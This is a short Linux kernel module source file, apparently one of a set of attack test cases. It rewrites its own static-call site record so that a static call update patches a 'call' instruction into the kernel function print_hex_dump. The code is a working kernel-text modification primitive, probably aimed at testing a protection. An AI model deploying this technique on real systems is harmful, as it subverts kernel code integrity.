// SPDX-License-Identifier: GPL-2.0
/*
 * atk_sc_rewrite: after load, rewrites its own .static_call_sites entry
 * so that the site is the start of a kernel function (target=
 * print_hex_dump, a 5-byte nop there), then updates its static call: the
 * kernel patches every site of the key again, so it would write "call"
 * into the kernel function.
 */
#include <linux/static_call.h>
#include "attack.h"

static noinline int atk_sc_a(void)
{
	return 0;
}

static noinline int atk_sc_b(void)
{
	return 1;
}

DEFINE_STATIC_CALL(atk_sc_rewrite_call, atk_sc_a);

/* The site: not a tail call (a tail site must hold a jmp). */
static noinline int atk_sc_use(void)
{
	return static_call(atk_sc_rewrite_call)() + 1;
}

static int attack(struct file *f)
{
	struct static_call_site *s = THIS_MODULE->static_call_sites;
	s32 addr;

	if (!THIS_MODULE->num_static_call_sites)
		return -ENOENT;
	addr = (s32)(target - (unsigned long)&s->addr);
	asm volatile("movl %1, %0" : "=m" (s->addr) : "r" (addr));
	static_call_update(atk_sc_rewrite_call, atk_sc_b);
	return atk_sc_use() == 2 ? 0 : -EINVAL;
}
